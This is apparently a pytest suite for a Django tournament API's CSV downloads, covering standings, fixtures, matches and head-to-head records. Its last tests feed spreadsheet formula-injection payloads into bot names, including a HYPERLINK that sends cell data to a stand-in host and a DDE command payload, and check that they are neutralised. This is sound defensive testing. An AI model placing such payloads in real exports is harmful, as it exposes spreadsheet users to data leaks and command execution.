"""Standings and matches as CSV downloads, and head-to-head keyed by bot name."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User

from tests.support.world import World, build_world
from tournaments.api.csv_export import FORMULA_STARTS, CSVRenderer
from tournaments.models import Bot, Match, MatchSeat, MatchStatus

pytestmark = pytest.mark.django_db


@pytest.fixture
def world() -> World:
    owner = User.objects.create_user(username="ada", password="a-long-test-passphrase-42")
    return build_world(owners=[owner], bots=6, finished=6, queued=2)


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment; filename=")
    body = b"".join(response) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


def test_standings_download_as_csv_with_the_same_figures_as_the_json(client, world) -> None:
    url = f"/api/tournaments/{world.tournament.pk}/standings/"
    as_json = client.get(url).json()["standings"]
    rows = read_csv(client.get(url, {"download": "csv"}))
    assert [r["bot_name"] for r in rows] == [s["bot_name"] for s in as_json]
    for row, line in zip(rows, as_json, strict=True):
        assert int(row["place"]) == line["place"]
        assert int(row["total_score"]) == line["total_score"]
        assert "head_to_head" not in row


def test_the_tournaments_matches_download_whole_as_csv_a_row_per_seat(client, world) -> None:
    url = f"/api/tournaments/{world.tournament.pk}/fixtures/"
    rows = read_csv(client.get(url, {"download": "csv", "page_size": 1}))
    seats = MatchSeat.objects.filter(match__tournament=world.tournament)
    assert len(rows) == seats.count()  # every match, not one page
    expected = {(s.match_id, s.bot.name, s.score) for s in seats.select_related("bot")}
    shown = {
        (int(r["id"]), r["seat_bot_name"], int(r["seat_score"]) if r["seat_score"] else None)
        for r in rows
    }
    assert shown == expected


def test_the_match_list_downloads_as_csv_with_its_filters(client, world) -> None:
    rows = read_csv(client.get("/api/matches/", {"download": "csv", "status": "finished"}))
    finished = Match.objects.filter(status=MatchStatus.FINISHED)
    assert {int(r["id"]) for r in rows} == set(finished.values_list("pk", flat=True))
    by_accept = client.get("/api/matches/", HTTP_ACCEPT="text/csv")
    assert by_accept["Content-Type"].startswith("text/csv")


def test_a_missing_tournament_answers_a_csv_error_not_a_500(client, world) -> None:
    response = client.get("/api/tournaments/999999/standings/", {"download": "csv"})
    assert response.status_code == 404
    assert response.content.decode().splitlines()[0] == "code,message"


def test_head_to_head_is_keyed_by_bot_name_with_labelled_fields(client, world) -> None:
    body = client.get(f"/api/tournaments/{world.tournament.pk}/standings/").json()
    names = {s["bot_name"]: s["bot"] for s in body["standings"]}
    for line in body["standings"]:
        assert line["head_to_head"], line
        for opponent, record in line["head_to_head"].items():
            assert opponent in names and opponent != line["bot_name"]
            assert record["bot"] == names[opponent]
            assert record["matches"] == record["ahead"] + record["level"] + record["behind"]
        mirrored = body["standings"]
        for opponent, record in line["head_to_head"].items():
            theirs = next(s for s in mirrored if s["bot_name"] == opponent)
            back = theirs["head_to_head"][line["bot_name"]]
            assert (back["ahead"], back["behind"]) == (record["behind"], record["ahead"])


HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_text_a_spreadsheet_would_run_is_written_as_text_and_numbers_as_they_are(
    client, world
) -> None:
    # Names the API refuses today, as an older row or a staff edit could still hold them.
    for bot, name in zip(world.bots, HOSTILE_TEXT, strict=False):
        Bot.objects.filter(pk=bot.pk).update(name=name)
    MatchSeat.objects.filter(match=world.finished[0], seat=0).update(score=-7)
    url = f"/api/tournaments/{world.tournament.pk}/"
    standings = read_csv(client.get(url + "standings/", {"download": "csv"}))
    fixtures = read_csv(client.get(url + "fixtures/", {"download": "csv"}))
    matches = read_csv(client.get("/api/matches/", {"download": "csv"}))
    names = (
        {r["bot_name"] for r in standings}
        | {r["seat_bot_name"] for r in fixtures}
        | {r["seat_bot_name"] for r in matches}
    )
    for name in HOSTILE_TEXT:
        assert "'" + name in names and name not in names
    cells = [v for rows in (standings, fixtures, matches) for r in rows for v in r.values()]
    assert not [v for v in cells if v.startswith(FORMULA_STARTS) and not is_number(v)]
    assert {r["seat_score"] for r in fixtures if int(r["id"]) == world.finished[0].pk} >= {"-7"}


def test_every_text_cell_of_any_answer_is_made_safe_the_same_way() -> None:
    rows = [
        {"name": t, "score": -3, "mean": -1.5, "note": "a-b", "tags": ["=x"]} for t in HOSTILE_TEXT
    ]
    rendered = CSVRenderer().render({"results": [{"id": 1, "seats": rows}]}).decode()
    read = list(csv.DictReader(io.StringIO(rendered, newline="")))
    assert [r["seat_name"] for r in read] == ["'" + t for t in HOSTILE_TEXT]
    assert {(r["seat_score"], r["seat_mean"], r["seat_note"]) for r in read} == {
        ("-3", "-1.5", "a-b")
    }
    assert {r["seat_tags"] for r in read} == {"['=x']"}
    error = CSVRenderer().render({"error": {"code": "invalid", "message": "=1+1"}}).decode()
    assert error.splitlines() == ["code,message", "invalid,'=1+1"]
